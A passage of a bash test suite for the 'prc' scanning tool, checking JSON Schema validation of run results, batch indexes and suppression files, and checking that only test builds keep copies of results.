        grep -q "/mode: 'sideways' is not one of" "$TMP/bad.out" || fail "$(cat "$TMP/bad.out")"
        # A batch state dir (read when the test ends), a test build's kept copy, a command's JSON stdout.
        printf '#!/bin/sh\nmkdir -p "$5/runs" && cp "%s" "$5/runs/x.json"\n' "$TMP/bad.json" >"$TMP/batch-prc"
        chmod +x "$TMP/batch-prc"
        printf 't_batch() { "$PRC" batch --targets x --state-dir "$TMP/st"; }\n' >"$TMP/inner.sh"
        ! PRC=$TMP/batch-prc bash tests/cli/lib.sh "$TMP/inner.sh" >"$TMP/bad.out" 2>&1 || fail "an invalid batch result passed"
        grep -q "/st/runs/x.json: /mode: 'sideways' is not one of" "$TMP/bad.out" || fail "$(cat "$TMP/bad.out")"
        printf 't_kept() { cp "%s" "$PRC_TEST_RESULT_DIR/run.1.json"; }\n' "$TMP/bad.json" >"$TMP/inner.sh"
        ! bash tests/cli/lib.sh "$TMP/inner.sh" >"$TMP/bad.out" 2>&1 || fail "an invalid kept result passed"
        grep -q "FAIL inner.t_kept" "$TMP/bad.out" || fail "$(cat "$TMP/bad.out")"
        printf 't_stdout() { run cat "%s"; }\n' "$TMP/bad.json" >"$TMP/inner.sh"
        ! bash tests/cli/lib.sh "$TMP/inner.sh" >"$TMP/bad.out" 2>&1 || fail "an invalid stdout result passed"
        grep -q "FAIL inner.t_stdout" "$TMP/bad.out" || fail "$(cat "$TMP/bad.out")"
}

# tests/run's last step (tests/kept-results.sh) validates every kept document in one process: each
# invalid one is named with the JSON pointer of its first error and fails the step; identical documents
# count once; what names no prc schema is not a result and is left alone; a schema that is not valid
# 2020-12 stops everything before any document is read.
t_the_kept_results_step_names_each_invalid_document_and_fails() {
        run "$PRC" scan --target examples/basic --format json
        mkdir "$TMP/v"
        printf '%s\n' "$OUT" >"$TMP/v/good.json"
        printf '%s\n' "$OUT" >"$TMP/v/again.json"
        : >"$TMP/v/empty"
        printf 'not json' >"$TMP/v/text"
        printf '{"schema":"prc.suppressions/v1","suppressions":[]}\n' >"$TMP/v/other.json"
        run bash tests/kept-results.sh "$TMP/v"
        expect_rc 0
        expect_out "validated: 1 run results, 0 batch indexes, 0 execution records"
        expect_out "1 passed, 0 failed"
        py "$TMP/v/good.json" 'd["summary"]["fail"] = -1; json.dump(d, open(sys.argv[1] + ".bad", "w"))'
        mv "$TMP/v/good.json.bad" "$TMP/v/count.json"
        py "$TMP/v/good.json" 'd["executions"] = [{"schema": "prc.execution-record/v0.3", "id": "x"}]
json.dump(d, open(sys.argv[1] + ".bad", "w"))'
        mv "$TMP/v/good.json.bad" "$TMP/v/exec.json"
        printf '{"schema":"prc.batch-index/v1"}\n' >"$TMP/v/index.json"
        printf '{"schema":"prc.run-result/v9"}\n' >"$TMP/v/v9.json"
        run bash tests/kept-results.sh "$TMP/v"
        expect_rc 1
        expect_out "validated: 3 run results, 1 batch indexes, 0 execution records"
        expect_out "$TMP/v/count.json: /summary/fail: -1 is less than the minimum of 0"
        expect_out "$TMP/v/exec.json: /executions/0"
        expect_out "$TMP/v/index.json: (document): "
        expect_out "$TMP/v/v9.json: /schema: 'prc.run-result/v9' is not a schema this validator knows"
        expect_out "FAIL kept-results"
        expect_out "0 passed, 1 failed"
        mkdir "$TMP/s"
        cp schemas/*.schema.json "$TMP/s/"
        sed -i '0,/"type": "object"/s//"type": 5/' "$TMP/s/run-result.schema.json"
        run /usr/bin/python3 tests/cli/result_validate.py --schemas "$TMP/s" "$TMP/v/good.json"
        expect_rc 2
        expect_err "schemas/run-result.schema.json: not a valid 2020-12 schema: /type: 5 is not valid"
        # A $ref out of schemas/ is refused, never fetched (the suite stays offline).
        cp schemas/run-result.schema.json "$TMP/s/"
        sed -i 's|"prc_version": {"type": "string"}|"prc_version": {"$ref": "https://prc.invalid/elsewhere.json"}|' \
                "$TMP/s/run-result.schema.json"
        run /usr/bin/python3 tests/cli/result_validate.py --schemas "$TMP/s" "$TMP/v/good.json"
        expect_rc 2
        expect_err "https://prc.invalid/elsewhere.json: a schema in schemas/ refers outside itself"
}

# The test builds keep a copy of every run result they make (src/base/testkeep.h), the one a triage
# makes included, byte for byte what they print; the release build has no such code, so no variable
# makes an installed prc write elsewhere.  A copy that cannot be kept is said on stderr.
t_test_builds_keep_what_they_make_and_the_release_build_nothing() {
        local tprc=$PRC_ROOT/build/test/prc k=$TMP/k
        [ -x "$tprc" ] || fail "build/test/prc is not built (make testbuild)"
        mkdir "$k" "$TMP/k2"
        PRC_TEST_RESULT_DIR=$k "$tprc" scan --target examples/basic --format json >"$TMP/r.json" || true
        [ "$(ls "$k" | wc -l)" -eq 1 ] || fail "kept: $(ls "$k")"
        cmp "$TMP/r.json" "$k"/run.*.json || fail "the kept copy differs from the result printed"
        rm "$k"/*
        PRC_TEST_RESULT_DIR=$k "$tprc" report "$TMP/r.json" --baseline "$TMP/r.json" --format json \
                >"$TMP/t.json" || true
        cmp "$TMP/t.json" "$k"/run.*.json || fail "the triaged result was not kept: $(ls "$k")"
        PRC_TEST_RESULT_DIR=$TMP/k2 "$PRC_BIN" scan --target examples/basic --format json >/dev/null || true
        [ -z "$(ls -A "$TMP/k2")" ] || fail "the release build kept $(ls "$TMP/k2")"
        ! nm "$PRC_BIN" | grep -q ' prc_test_keep$' || fail "build/prc contains prc_test_keep"
        PRC_TEST_RESULT_DIR=$TMP/absent run "$tprc" scan --target examples/basic --format json
        expect_rc 1
        expect_err "prc (test build): could not keep a run in PRC_TEST_RESULT_DIR"
}

# schemas/suppressions.schema.json says what prc accepts: the files the tests above write validate, and
# each malformed one prc refuses is refused by the schema too.
t_suppressions_schema_agrees_with_prc() {
        suppress "$TMP/ok.json" PRC-A-AUR-004 "$(printf '%064d' 7)" 2026-06-01
        printf '{"schema":"prc.suppressions/v1","suppressions":[{"assertion":"A","digest":"xyz","reason":"r","expires":"2027-01-01"}]}' >"$TMP/b1.json"
        printf '{"schema":"prc.suppressions/v1","suppressions":[{"assertion":"A","digest":"%064d","reason":"r","expires":"2027-13-01"}]}' 0 >"$TMP/b2.json"
        printf '{"schema":"prc.suppressions/v1","suppressions":[],"extra":1}' >"$TMP/b3.json"
        printf '{"schema":"prc.suppressions/v1","suppressions":[{"assertion":"A","digest":"%064d","reason":"","expires":"2027-01-01"}]}' 0 >"$TMP/b4.json"
        /usr/bin/python3 - "$PRC_ROOT/schemas/suppressions.schema.json" "$TMP" <<'PY' || fail "schema"
import json, sys, jsonschema
v = jsonschema.Draft202012Validator(json.load(open(sys.argv[1])))
v.validate(json.load(open(sys.argv[2] + "/ok.json")))
for b in ("b1", "b2", "b3", "b4"):
    assert not v.is_valid(json.load(open(f"{sys.argv[2]}/{b}.json"))), b
PY
        mk_failing "$TMP/t"
        run "$PRC" scan --target "$TMP/t" --suppressions "$TMP/ok.json" --now 2026-01-01T00:00:00Z
        expect_rc 1
        for b in b1 b2 b3 b4; do
                run "$PRC" scan --target "$TMP/t" --suppressions "$TMP/$b.json" --now 2026-01-01T00:00:00Z
                expect_rc 2
                expect_err "suppressions-invalid"
        done
}
